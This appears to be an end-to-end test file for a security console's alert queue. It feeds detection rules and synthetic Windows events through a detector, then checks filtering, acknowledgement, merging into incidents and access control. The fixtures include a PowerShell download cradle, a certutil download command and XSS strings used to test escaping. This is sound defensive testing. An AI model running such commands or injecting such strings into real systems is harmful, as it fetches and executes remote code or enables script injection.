// End-to-end tests of the alerts queue and the alert page: alerts are written
// for real by `vigie detect` (small Sigma rules and an indicator file, events
// on standard input) into the test server's database, then the console filters
// them, acknowledges them (a checkbox and the bulk button, the keyboard),
// merges them into an incident with the incident picker or into a new one,
// shows an alert's matched fields, author, ATT&CK tags, event and indicator,
// and the search finds an alert by its title. Every action is checked through
// the API afterwards.
import {test, before, after} from 'node:test';
import assert from 'node:assert/strict';
import {mkdtempSync, writeFileSync, rmSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {Server, launch, newPage, loginUI, seed, shot, ADMIN_PASSWORD, REPO} from './harness.js';

let server, admin, data, browser, dir;
const A = {}; // alerts by name: {id, ...}

const RULES = {
  'cradle.yml': `title: Suspicious PowerShell download cradle
id: 0b1a5e2c-7d2f-4c1e-9a51-3e0f6a1c2d01
status: test
description: PowerShell downloading and running code from the Internet.
author: Florian Roth (Nextron Systems)
tags:
  - attack.execution
  - attack.t1059.001
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    CommandLine|contains: DownloadString
  condition: selection
level: high
`,
  'whoami.yml': `title: Whoami discovery
id: 0b1a5e2c-7d2f-4c1e-9a51-3e0f6a1c2d02
status: test
author: Jane Analyst
tags:
  - attack.discovery
  - attack.t1033
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    Image|endswith: '\\whoami.exe'
  condition: selection
level: low
`,
  'certutil.yml': `title: Certutil used to download a file
id: 0b1a5e2c-7d2f-4c1e-9a51-3e0f6a1c2d03
status: test
author: CERT test team
tags:
  - attack.command_and_control
  - attack.t1105
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    CommandLine|contains: urlcache
  condition: selection
level: medium
`,
  // a hostile title: must render as text
  'xss.yml': `title: '<img src=x onerror=alert(1)> payload rule'
id: 0b1a5e2c-7d2f-4c1e-9a51-3e0f6a1c2d04
status: test
author: '<script>alert(2)</script>'
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    CommandLine|contains: evil-marker
  condition: selection
level: informational
`,
};

const ev = (o) => JSON.stringify(o);
const CRADLE = ev({CommandLine: 'powershell -nop -c IEX (New-Object Net.WebClient).DownloadString("http://cdn-update-check.net/a.ps1")',
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', Computer: 'ws1.transition.gouv.example', DestinationIp: '185.220.101.34'});

function detect(lines) {
  const args = ['--json', 'detect'];
  for (const f of Object.keys(RULES)) args.push('-r', join(dir, f));
  args.push('-i', join(dir, 'iocs.txt'), '--ioc-fields', join(REPO, 'etc', 'detect', 'ioc-fields.yml'), '-');
  const r = server.cli(args, lines.join('\n') + '\n');
  assert.equal(r.status, 0, r.stderr);
  return JSON.parse(r.stdout.trim().split('\n').pop());
}

const alertOf = (id) => admin.get(`/api/v1/alerts/${id}`);

before(async () => {
  server = await new Server().start();
  admin = await server.client();
  data = await seed(admin);
  dir = mkdtempSync(join(tmpdir(), 'vg-e2e-rules-'));
  for (const [f, text] of Object.entries(RULES)) writeFileSync(join(dir, f), text);
  writeFileSync(join(dir, 'iocs.txt'), '185.220.101.34\n');
  const s = detect([
    CRADLE,
    ev({CommandLine: 'whoami /all', Image: 'C:\\Windows\\System32\\whoami.exe', Computer: 'pc9.chr-nord.example'}),
    ev({CommandLine: 'whoami', Image: 'C:\\Windows\\System32\\whoami.exe', Computer: 'pc10.chr-nord.example'}),
    ev({CommandLine: 'certutil -urlcache -split -f http://transition-gouv-login.com/x.exe', Image: 'C:\\Windows\\System32\\certutil.exe', Computer: 'ws2.transition.gouv.example'}),
    ev({CommandLine: 'run evil-marker <script>alert(3)</script>', Image: 'C:\\x.exe', Computer: 'lonely-host'}),
  ]);
  assert.equal(s.alerts_created, 6, JSON.stringify(s));
  // the cradle again: deduplicated into the same alerts (count 2)
  assert.equal(detect([CRADLE]).alerts_deduplicated, 2);
  const all = (await admin.get('/api/v1/alerts?limit=50')).items;
  const byRule = (suffix) => all.find((a) => a.rule_id.endsWith(suffix));
  A.cradle = byRule('2d01');
  A.ioc = all.find((a) => a.rule_id.startsWith('ioc:'));
  const whoami = all.filter((a) => a.rule_id.endsWith('2d02'));
  assert.equal(whoami.length, 2, 'one alert per host');
  [A.who1, A.who2] = whoami;
  A.certutil = byRule('2d03');
  A.xss = byRule('2d04');
  for (const [k, v] of Object.entries(A)) assert.ok(v && v.id, k);
  assert.equal(A.cradle.count, 2);
  assert.equal(A.cradle.org_id, data.org.id, 'attributed through the registry (domain)');
  assert.equal(A.who1.org_id, data.other.id);
  browser = await launch();
});

after(async () => {
  if (browser) await browser.close();
  if (server) await server.stop();
  if (dir) rmSync(dir, {recursive: true, force: true});
});

const rowIds = (page) => page.locator('#alert-list tbody tr[data-id]').evaluateAll((rows) => rows.map((r) => Number(r.dataset.id)));
async function waitRows(page, ids) {
  await page.waitForFunction((want) => {
    const got = [...document.querySelectorAll('#alert-list tbody tr[data-id]')].map((r) => Number(r.dataset.id));
    return JSON.stringify(got) === JSON.stringify(want);
  }, ids);
}
const idsOf = async (q) => (await admin.get(`/api/v1/alerts?${q}`)).items.map((a) => a.id);

test('alerts queue: new alerts first, filters by level, rule, organisation, text and time, counts', async () => {
  const page = await newPage(browser.context);
  await loginUI(page, server.base, 'admin', ADMIN_PASSWORD);
  await page.getByRole('navigation').getByRole('link', {name: 'Alerts'}).click();
  await page.waitForSelector('#alert-list tbody tr[data-id]');
  // the default queue: what is still new, newest first
  await waitRows(page, await idsOf('status=new'));
  assert.equal((await rowIds(page)).length, 6);
  const text = await page.locator('#alert-list tbody').innerText();
  assert.ok(text.includes('Suspicious PowerShell download cradle'));
  assert.ok(text.includes('T1059.001'), 'ATT&CK technique tag');
  assert.ok(text.includes('Ministère de la Transition'), 'organisation name');
  // counts come from the aggregate (stats), not from the page
  const stats = await admin.get('/api/v1/stats');
  await page.locator('#alert-counts [data-waiting]').waitFor();
  assert.equal(await page.locator('#alert-counts [data-waiting]').getAttribute('data-waiting'), String(stats.alerts.waiting));
  assert.match(await page.locator('#alert-counts').innerText(), /6 waiting/);
  await shot(page, 'alerts');

  // level
  await page.locator('#alert-level').selectOption('low');
  await waitRows(page, await idsOf('status=new&severity=low'));
  assert.deepEqual((await rowIds(page)).sort(), [A.who1.id, A.who2.id].sort());
  assert.match(page.url(), /severity=low/);
  await page.locator('#alert-level').selectOption('high');
  await waitRows(page, await idsOf('status=new&severity=high'));
  assert.deepEqual((await rowIds(page)).sort(), [A.cradle.id, A.ioc.id].sort());
  // the rule under a title filters on it
  await page.locator('#alert-level').selectOption('');
  await page.locator(`#alert-list tr[data-id="${A.who1.id}"] button.rule`).click();
  await waitRows(page, await idsOf(`status=new&rule=${A.who1.rule_id}`));
  assert.equal((await rowIds(page)).length, 2);
  assert.equal(await page.locator('#alert-rule').inputValue(), A.who1.rule_id);
  await page.locator('#alert-rule').fill('');
  // organisation (the picker)
  await page.getByLabel('Organisation', {exact: true}).selectOption(String(data.other.id));
  await waitRows(page, await idsOf(`status=new&org_id=${data.other.id}`));
  assert.deepEqual((await rowIds(page)).sort(), [A.who1.id, A.who2.id].sort());
  await page.getByLabel('Organisation', {exact: true}).selectOption('');
  // free text (words of the title)
  await page.locator('#alert-q').fill('certutil');
  await waitRows(page, [A.certutil.id]);
  await page.locator('#alert-q').fill('');
  await waitRows(page, await idsOf('status=new'));
  // time range: the last hour holds them all, a range in the future none
  await page.locator('#alert-range').selectOption('1h');
  await waitRows(page, await idsOf('status=new'));
  await page.locator('#alert-range').selectOption('custom');
  await page.getByLabel('Last seen from').fill('2100-01-01T00:00');
  await page.getByText('No alert.').waitFor();
  await page.locator('#alert-range').selectOption('');
  await waitRows(page, await idsOf('status=new'));
  // a reload keeps the filters (they live in the address)
  await page.locator('#alert-level').selectOption('medium');
  await waitRows(page, [A.certutil.id]);
  await page.reload();
  await waitRows(page, [A.certutil.id]);
  assert.equal(await page.locator('#alert-level').inputValue(), 'medium');
  // the hostile rule title and author are text
  await page.goto(`${server.base}/#/alerts?severity=informational`);
  await waitRows(page, [A.xss.id]);
  assert.ok((await page.locator('#alert-list tbody').innerText()).includes('<img src=x onerror=alert(1)> payload rule'));
  assert.equal(await page.locator('#alert-list tbody img').count(), 0);
  assert.deepEqual(page.dialogs, []);
  assert.deepEqual(page.errors, []);
  await page.close();
});

test('acknowledge an alert from the list (checkbox + Acknowledge), merge one into an incident with the picker', async () => {
  const page = await newPage(browser.context);
  await loginUI(page, server.base, 'admin', ADMIN_PASSWORD);
  await page.goto(`${server.base}/#/alerts`);
  await page.waitForSelector(`#alert-list tr[data-id="${A.who1.id}"]`);
  assert.ok(await page.locator('#alerts-ack').isDisabled(), 'nothing selected yet');
  await page.getByLabel(`Select alert #${A.who1.id}`).check();
  assert.match(await page.locator('.bulk').innerText(), /1 selected/);
  await page.locator('#alerts-ack').click();
  await page.getByText('1 acknowledged.').waitFor();
  const acked = await alertOf(A.who1.id);
  assert.equal(acked.status, 'acknowledged');
  assert.ok(acked.acknowledged_at);
  assert.equal((await alertOf(A.who2.id)).status, 'new', 'only the selected one');
  // it left the "new" queue
  await page.waitForSelector(`#alert-list tr[data-id="${A.who1.id}"]`, {state: 'detached'});

  // merge the PowerShell alert into the ransomware incident with the picker
  const inc = data.incidents[0];
  await page.getByLabel(`Select alert #${A.cradle.id}`).check();
  await page.locator('#alerts-merge').click();
  const dlg = page.getByRole('dialog', {name: `Merge alert #${A.cradle.id}`});
  await dlg.waitFor();
  await dlg.getByPlaceholder('Reference, title or id').fill('Ransomware');
  await dlg.locator('select[aria-label="Incident"] option', {hasText: 'Ransomware on file servers'}).waitFor({state: 'attached'});
  await dlg.getByLabel('Incident', {exact: true}).selectOption(String(inc.id));
  await dlg.getByLabel('Note').fill('Same host as the ransomware case.');
  await dlg.getByRole('button', {name: 'Merge', exact: true}).click();
  await page.getByText(`1 alert(s) merged into incident #${inc.id}.`).waitFor();
  const merged = await alertOf(A.cradle.id);
  assert.equal(merged.status, 'merged');
  assert.equal(merged.incident_id, inc.id);
  const full = await admin.get(`/api/v1/incidents/${inc.id}`);
  const journal = JSON.stringify(full.journal || (await admin.get(`/api/v1/incidents/${inc.id}/journal`)).items);
  assert.ok(journal.includes(`Alert #${A.cradle.id} merged`), 'the journal records the merge');
  assert.ok(journal.includes('Same host as the ransomware case.'));
  // the merged alert shows in the "merged" queue with its incident
  await page.locator('#alert-status').selectOption('merged');
  await waitRows(page, [A.cradle.id]);
  assert.match(await page.locator(`#alert-list tr[data-id="${A.cradle.id}"]`).innerText(), new RegExp(`merged\\s+→ #${inc.id}`));
  assert.deepEqual(page.errors, []);
  await page.close();
});

test('alert page: rule, author, ATT&CK, matched field and value, event, organisation, dedup count; indicator hit', async () => {
  const page = await newPage(browser.context);
  await loginUI(page, server.base, 'admin', ADMIN_PASSWORD);
  await page.goto(`${server.base}/#/alerts/${A.cradle.id}`);
  await page.waitForSelector('#alert-matched');
  const matched = await page.locator('#alert-matched').innerText();
  assert.match(matched, /CommandLine/);
  assert.ok(matched.includes('DownloadString("http://cdn-update-check.net/a.ps1")'), matched);
  assert.equal(await page.locator('#alert-author').innerText(), 'Florian Roth (Nextron Systems)');
  assert.match(await page.locator('#alert-facts').innerText(), /0b1a5e2c-7d2f-4c1e-9a51-3e0f6a1c2d01/);
  assert.match(await page.locator('#alert-tags').innerText(), /execution[\s\S]*T1059\.001/);
  assert.equal(await page.locator('#alert-count').innerText(), '2');
  assert.match(await page.locator('#alert-when').innerText(), /Ministère de la Transition/);
  assert.equal(await page.locator('#alert-incident').innerText(), `#${data.incidents[0].id}`);
  const event = JSON.parse(await page.locator('#alert-event').innerText());
  assert.equal(event.Computer, 'ws1.transition.gouv.example');
  assert.match(await page.locator('#alert-observables').innerText(), /ws1\.transition\.gouv\.example/);
  // merged: no more actions
  assert.ok(await page.locator('#alert-ack').isDisabled());
  assert.ok(await page.locator('#alert-merge').isDisabled());

  // an indicator hit: the indicator, its type, its source and the event field
  await page.goto(`${server.base}/#/alerts/${A.ioc.id}`);
  await page.waitForSelector('#alert-ioc');
  const ioc = await page.locator('#alert-ioc').innerText();
  assert.match(ioc, /185\.220\.101\.34/);
  assert.match(ioc, /Type\s+ip/);
  assert.match(ioc, /iocs\.txt/);
  assert.match(ioc, /DestinationIp/);

  // acknowledge from the page
  await page.locator('#alert-ack').click();
  await page.waitForFunction(() => document.querySelector('#alert-ack') && document.querySelector('#alert-ack').disabled);
  assert.equal((await alertOf(A.ioc.id)).status, 'acknowledged');
  assert.match(await page.locator('#alert-when').innerText(), /Acknowledged\s+admin|Acknowledged\s+#\d+|Acknowledged\s+.*admin/);

  // a new incident from an alert (the API's new_incident)
  await page.goto(`${server.base}/#/alerts/${A.certutil.id}`);
  await page.waitForSelector('#alert-matched');
  assert.match(await page.locator('#alert-matched').innerText(), /CommandLine\s+certutil -urlcache -split -f http:\/\/transition-gouv-login\.com\/x\.exe/);
  assert.equal(await page.locator('#alert-author').innerText(), 'CERT test team');
  await page.evaluate(() => { document.getElementById('toast').className = 'toast'; });
  await page.waitForTimeout(400); // the toast of the acknowledgement above fades out
  await shot(page, 'alert', {fullPage: true});
  await page.locator('#alert-new-incident').click();
  const dlg = page.getByRole('dialog', {name: `Merge alert #${A.certutil.id}`});
  await dlg.waitFor();
  assert.equal(await dlg.getByLabel('Incident title').inputValue(), 'Certutil used to download a file');
  await dlg.getByLabel('Incident title').fill('Certutil download on ws2');
  await dlg.getByLabel('Severity').selectOption('high');
  await dlg.getByRole('button', {name: 'Merge', exact: true}).click();
  await page.waitForURL(/#\/incidents\/\d+$/);
  const incId = Number(page.url().match(/incidents\/(\d+)$/)[1]);
  const al = await alertOf(A.certutil.id);
  assert.equal(al.status, 'merged');
  assert.equal(al.incident_id, incId);
  const inc = await admin.get(`/api/v1/incidents/${incId}`);
  assert.equal(inc.title, 'Certutil download on ws2');
  assert.equal(inc.severity, 'high');
  assert.equal(inc.org_id, data.org.id, 'the alert\'s organisation by default');

  // hostile title and author: text
  await page.goto(`${server.base}/#/alerts/${A.xss.id}`);
  await page.waitForSelector('#alert-author');
  assert.equal(await page.locator('#alert-author').innerText(), '<script>alert(2)</script>');
  assert.match(await page.locator('h1').innerText(), /<img src=x onerror=alert\(1\)> payload rule/);
  assert.deepEqual(page.dialogs, []);
  assert.deepEqual(page.errors, []);
  await page.close();
});

test('keyboard: j/k move, a acknowledges, m opens the merge dialog, / searches, Enter opens; help overlay lists them', async () => {
  const page = await newPage(browser.context);
  await loginUI(page, server.base, 'admin', ADMIN_PASSWORD);
  await page.goto(`${server.base}/#/alerts`);
  const want = await idsOf('status=new');
  assert.ok(want.length >= 2, String(want));
  await waitRows(page, want);
  await page.locator('h1').click();
  await page.keyboard.press('j');
  await page.keyboard.press('j');
  await page.keyboard.press('k');
  await page.keyboard.press('j');
  assert.equal(await page.locator('#alert-list tr.current').getAttribute('data-id'), String(want[1]));
  await page.keyboard.press('a');
  await page.getByText('1 acknowledged.').waitFor();
  assert.equal((await alertOf(want[1])).status, 'acknowledged');
  assert.equal((await alertOf(want[0])).status, 'new', 'only the current row');
  // the queue reloads without it and the cursor stays in place
  await waitRows(page, want.filter((id) => id !== want[1]));
  const cur = await page.locator('#alert-list tr.current').getAttribute('data-id');
  assert.ok(cur && Number(cur) !== want[1]);
  // m: the merge dialog for the current alert; Esc closes it
  await page.keyboard.press('m');
  await page.getByRole('dialog', {name: `Merge alert #${cur}`}).waitFor();
  await page.keyboard.press('Escape');
  assert.equal(await page.getByRole('dialog').count(), 0);
  // x selects the current row
  await page.keyboard.press('x');
  assert.match(await page.locator('.bulk').innerText(), /1 selected/);
  // / focuses the search box
  await page.keyboard.press('/');
  assert.equal(await page.evaluate(() => document.activeElement.id), 'alert-q');
  await page.keyboard.press('Escape');
  // ? lists the alerts keys
  await page.keyboard.press('?');
  const help = page.getByRole('dialog', {name: 'Keyboard shortcuts'});
  await help.waitFor();
  assert.match(await help.innerText(), /Alerts: acknowledge the alert/);
  assert.match(await help.innerText(), /Alerts: merge the alert into an incident/);
  await page.keyboard.press('Escape');
  // Enter opens the current alert
  await page.locator('h1').click();
  await page.keyboard.press('j');
  const first = await page.locator('#alert-list tr.current').getAttribute('data-id');
  await page.keyboard.press('Enter');
  await page.waitForURL(new RegExp(`#/alerts/${first}$`));
  await page.waitForSelector('#alert-matched, #alert-ioc');
  assert.deepEqual(page.errors, []);
  await page.close();
});

test('bulk: acknowledge several alerts in one request, merge a selection into one new incident', async () => {
  const who = (host) => ev({CommandLine: 'whoami /groups', Image: 'C:\\Windows\\System32\\whoami.exe', Computer: host});
  assert.equal(detect(['pc11', 'pc12', 'pc13', 'pc14'].map((n) => who(`${n}.chr-nord.example`))).alerts_created, 4);
  const fresh = (await admin.get(`/api/v1/alerts?status=new&rule=${A.who1.rule_id}`)).items.map((a) => a.id);
  assert.equal(fresh.length, 4);
  const page = await newPage(browser.context);
  const bulkAcks = [];
  page.on('request', (r) => { if (r.method() === 'POST' && r.url().endsWith('/api/v1/alerts/ack')) bulkAcks.push(JSON.parse(r.postData())); });
  await loginUI(page, server.base, 'admin', ADMIN_PASSWORD);
  await page.goto(`${server.base}/#/alerts?rule=${A.who1.rule_id}`);
  await waitRows(page, fresh);
  // two acknowledged at once
  await page.getByLabel(`Select alert #${fresh[0]}`).check();
  await page.getByLabel(`Select alert #${fresh[1]}`).check();
  await page.locator('#alerts-ack').click();
  await page.getByText('2 acknowledged.').waitFor();
  assert.deepEqual(bulkAcks, [{ids: [fresh[0], fresh[1]]}], 'one bulk request');
  for (const id of fresh.slice(0, 2)) assert.equal((await alertOf(id)).status, 'acknowledged');
  // the other two: select all, one new incident for both
  await waitRows(page, fresh.slice(2));
  await page.getByLabel('Select all on this page').check();
  assert.match(await page.locator('.bulk').innerText(), /2 selected/);
  await page.locator('#alerts-new-incident').click();
  const dlg = page.getByRole('dialog', {name: 'Merge the selected alerts'});
  await dlg.waitFor();
  await dlg.getByLabel('Incident title').fill('Discovery on the hospital workstations');
  await dlg.getByRole('button', {name: 'Merge', exact: true}).click();
  await page.getByText(/2 alert\(s\) merged into incident #\d+\./).waitFor();
  const [m1, m2] = await Promise.all(fresh.slice(2).map(alertOf));
  assert.equal(m1.status, 'merged');
  assert.equal(m2.status, 'merged');
  assert.equal(m1.incident_id, m2.incident_id, 'the same new incident');
  const inc = await admin.get(`/api/v1/incidents/${m1.incident_id}`);
  assert.equal(inc.title, 'Discovery on the hospital workstations');
  assert.equal(inc.org_id, data.other.id);
  const journal = JSON.stringify(inc.journal);
  assert.ok(journal.includes(`Alert #${m1.id} merged`) && journal.includes(`Alert #${m2.id} merged`), journal);
  await page.getByText('No alert.').waitFor();
  assert.deepEqual(page.errors, []);
  await page.close();
});

test('search finds an alert by its title and links to its page', async () => {
  const page = await newPage(browser.context);
  await loginUI(page, server.base, 'admin', ADMIN_PASSWORD);
  await page.goto(`${server.base}/#/search?q=${encodeURIComponent('download cradle')}`);
  const hit = page.locator('#search-results li[data-kind=alert]');
  await hit.first().waitFor();
  assert.equal(await hit.count(), 1);
  assert.match(await hit.innerText(), /Suspicious PowerShell download cradle/);
  // only the alerts
  await page.locator('#search-kind').selectOption('alert');
  await page.getByLabel('Search', {exact: true}).fill('whoami');
  await page.getByRole('button', {name: 'Search'}).click();
  const whoami = (await admin.get('/api/v1/alerts?q=whoami&limit=50')).items.length;
  assert.equal(whoami, 6);
  await page.waitForFunction((n) => document.querySelectorAll('#search-results li[data-kind=alert]').length === n, whoami);
  assert.equal(await page.locator('#search-results li:not([data-kind=alert])').count(), 0);
  await page.locator('#search-results li[data-kind=alert] a').first().click();
  await page.waitForURL(/#\/alerts\/\d+$/);
  await page.waitForSelector('#alert-author');
  assert.equal(await page.locator('#alert-author').innerText(), 'Jane Analyst');
  assert.deepEqual(page.errors, []);
  await page.close();
});

test('a constituent (in French) sees only its organisation\'s alerts, with no action', async () => {
  const page = await newPage(browser.context);
  await loginUI(page, server.base, 'rssi', 'constituent password 1');
  await page.goto(`${server.base}/#/alerts?status=`);
  await page.getByRole('heading', {name: 'Alertes'}).waitFor();
  const rssi = await server.client('rssi', 'constituent password 1');
  const mine = (await rssi.get('/api/v1/alerts?limit=50')).items.map((a) => a.id);
  assert.deepEqual(mine.sort(), [A.cradle.id, A.ioc.id, A.certutil.id].sort());
  await waitRows(page, (await rssi.get('/api/v1/alerts?limit=50')).items.map((a) => a.id));
  assert.equal(await page.locator('#alert-list input[type=checkbox]').count(), 0, 'no selection without alert.write');
  assert.equal(await page.locator('#alerts-ack').count(), 0);
  assert.match(await page.locator('#alert-list thead').innerText(), /Niveau/);
  assert.deepEqual(page.errors, []);
  // another organisation's alert: the API's 404
  await page.goto(`${server.base}/#/alerts/${A.who2.id}`);
  await page.getByText(/Impossible de charger cette page/).waitFor();
  await page.goto(`${server.base}/#/alerts/${A.cradle.id}`);
  await page.waitForSelector('#alert-matched');
  assert.equal(await page.locator('#alert-ack').count(), 0);
  assert.match(await page.locator('#alert-when').innerText(), /Nombre\s+2/);
  await page.close();
});

test('narrow window: the queue and an alert page do not scroll sideways', async () => {
  const page = await newPage(browser.context);
  await page.setViewportSize({width: 400, height: 800});
  await loginUI(page, server.base, 'admin', ADMIN_PASSWORD);
  for (const hash of ['#/alerts?status=', `#/alerts/${A.cradle.id}`]) {
    await page.goto(`${server.base}/${hash}`);
    await page.waitForSelector('#alert-list tbody tr[data-id], #alert-matched');
    const [sw, cw] = await page.evaluate(() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]);
    assert.ok(sw <= cw, `${hash}: ${sw} > ${cw}`);
  }
  assert.deepEqual(page.errors, []);
  await page.close();
});

test('server-side pages: 50 alerts a page, the next page through the cursor', async () => {
  const lines = [];
  for (let i = 1; i <= 55; i++) lines.push(ev({CommandLine: `certutil -urlcache -f http://x.example/${i}`, Image: 'C:\\certutil.exe', Computer: `host${i}.example`}));
  assert.equal(detect(lines).alerts_created, 55);
  const page = await newPage(browser.context);
  const asked = [];
  page.on('request', (r) => { if (r.url().includes('/api/v1/alerts?')) asked.push(new URL(r.url()).searchParams); });
  await loginUI(page, server.base, 'admin', ADMIN_PASSWORD);
  await page.goto(`${server.base}/#/alerts?severity=medium`);
  const first = await admin.get('/api/v1/alerts?status=new&severity=medium&limit=50');
  assert.ok(first.next_cursor);
  await waitRows(page, first.items.map((a) => a.id));
  assert.match(await page.locator('#alert-shown').innerText(), /50 on this page · more on the next pages/);
  await page.getByRole('button', {name: 'next page'}).click();
  const second = await admin.get(`/api/v1/alerts?status=new&severity=medium&limit=50&cursor=${first.next_cursor}`);
  await waitRows(page, second.items.map((a) => a.id));
  assert.equal(second.items.length, 5);
  assert.ok(asked.some((p) => p.get('cursor') === first.next_cursor && p.get('severity') === 'medium'), 'the cursor and the filter sent');
  assert.ok(await page.getByRole('button', {name: 'next page'}).isDisabled());
  await page.getByRole('button', {name: 'previous page'}).click();
  await waitRows(page, first.items.map((a) => a.id));
  assert.deepEqual(page.errors, []);
  await page.close();
});
